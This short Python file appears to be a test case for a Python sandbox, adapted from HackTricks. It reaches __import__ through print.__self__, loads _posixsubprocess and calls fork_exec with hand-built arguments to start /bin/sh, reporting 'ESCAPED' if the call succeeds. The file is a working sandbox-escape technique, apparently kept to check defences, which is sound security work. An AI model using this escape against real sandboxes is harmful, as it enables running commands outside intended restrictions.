# expect: done
# idea: call the C function beneath subprocess with arguments made by hand, without the checks around it
# source: HackTricks
def tick(ctx):
    try:
        helper = print.__self__.__import__("_posixsubprocess")
    except Exception as error:
        print("not there:", error)
        return
    pipes = [-1, -1, -1, -1, -1, -1, 3, 4]
    arguments = [[b"sh", b"-c", b"exit"], [b"/bin/sh"], True, (), None, None, *pipes, False, False, 0]
    arguments += [None, None, None, -1, None]
    for more in ([], [False], [True]):
        try:
            print("ESCAPED: started process", helper.fork_exec(*arguments, *more))
        except Exception as error:
            print("refused:", error)
